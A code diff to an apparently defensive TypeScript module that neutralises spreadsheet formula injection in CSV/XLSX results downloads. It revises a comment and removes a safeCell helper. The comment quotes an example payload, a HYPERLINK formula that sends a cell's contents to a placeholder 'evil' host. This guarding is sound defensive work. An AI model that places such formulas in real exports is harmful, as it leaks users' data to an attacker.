@@ -1,6 +1,7 @@
 // Results downloads echo the customer's own cells back into a spreadsheet, and a cell such as
 // =HYPERLINK("http://evil/?"&A1) or @SUM(...) would run when the file is opened (CSV) or edited
-// (XLSX). The rule, for CSV and XLSX alike:
+// (XLSX). The rule for CSV (an XLSX string cell is never read as a formula: write-results.ts writes
+// text there as it is, formatted as text when it starts like a formula, so editing keeps it text):
 //   - control characters are never written: tabs and line breaks become spaces, the rest is
 //     dropped (domain/safe-text.ts), so no cell can start or split on one;
 //   - text whose first character (after spaces) is = + - @ (or their full-width forms, which
@@ -31,10 +32,4 @@ export function valueText(value: unknown): string {
   if (typeof value === 'boolean' || typeof value === 'bigint') return String(value);
   if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
   return JSON.stringify(value, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v)) ?? '';
-}
-
-/** Numbers the service produced stay numeric; everything else becomes guarded text. */
-export function safeCell(value: unknown): number | string {
-  if (typeof value === 'number' && Number.isFinite(value)) return value;
-  return neutralise(valueText(value));
 }
